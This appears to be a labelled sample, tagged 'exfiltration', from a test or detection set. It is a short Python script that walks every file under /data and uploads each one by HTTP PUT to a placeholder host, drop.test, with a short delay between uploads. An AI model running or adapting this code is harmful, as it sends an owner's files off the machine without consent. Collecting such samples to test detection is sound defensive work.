# class: exfiltration; possible: low medium; needs: data
import os, time, urllib.request
for root, _, names in os.walk("/data"):
    for n in names:
        p = os.path.join(root, n)
        r = urllib.request.Request("http://drop.test/f" + p, open(p, "rb").read(), method="PUT")
        urllib.request.urlopen(r).read(); time.sleep(.3)
